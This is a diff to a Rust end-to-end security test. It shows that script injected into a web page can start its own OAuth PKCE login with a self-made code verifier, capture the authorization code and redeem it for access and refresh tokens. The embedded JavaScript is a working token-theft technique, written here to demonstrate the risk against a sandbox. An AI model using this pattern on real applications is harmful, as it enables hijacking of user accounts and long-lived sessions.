@@ -6,6 +6,7 @@
 use attacks::{ACCESS, fresh_session, plant_canaries};
 use e2e::{APP, PENDING, World, parameter};
 use serde_json::json;
+use url::Url;
 
 #[tokio::test]
 async fn script_in_the_page_can_call_and_read_what_the_application_can_and_start_a_login_of_its_own()
@@ -25,9 +26,35 @@ async fn script_in_the_page_can_call_and_read_what_the_application_can_and_start
         seen[0], "test_user_38730994@testuser.com",
         "the user's data"
     );
-    let redirect = world.redirect(seen[1].as_str().expect("a URL"));
-    assert!(parameter(&redirect, "code").is_some(), "a code of its own");
     assert_eq!(seen[2], json!(["offline_access", "read", "write"]));
+
+    // Without the library, with a verifier of its own: it holds what it gets.
+    let url = Url::parse(seen[1].as_str().expect("a URL")).expect("a URL");
+    let challenge = "window.verifier = 'theirs-'.repeat(7)
+        const hash = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))
+        return btoa(String.fromCharCode(...new Uint8Array(hash))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')";
+    let challenge = world.run(challenge, &[]).await;
+    let mut own = url.clone();
+    own.query_pairs_mut()
+        .clear()
+        .extend_pairs(url.query_pairs().map(|(name, value)| {
+            let value = match &*name {
+                "code_challenge" => challenge.as_str().expect("text").to_owned(),
+                "state" => "theirs".to_owned(),
+                _ => value.into_owned(),
+            };
+            (name.into_owned(), value)
+        }));
+    let code = parameter(&world.redirect(own.as_str()), "code").expect("a code");
+    let redeem = "const [endpoint, code, { clientId, redirectUri }] = args
+        const body = new URLSearchParams({ grant_type: 'authorization_code', code, code_verifier: verifier,
+            client_id: clientId, redirect_uri: redirectUri })
+        const answer = await (await fetch(endpoint, { method: 'POST', body })).json()
+        return [typeof answer.access_token, typeof answer.refresh_token]";
+    let endpoint = format!("{}/oauth/token", world.sandbox_origin);
+    let args = [json!(endpoint), json!(code), world.config(json!({}))];
+    let held = world.run(redeem, &args).await;
+    assert_eq!(held, json!(["string", "string"]));
 }
 
 #[tokio::test]
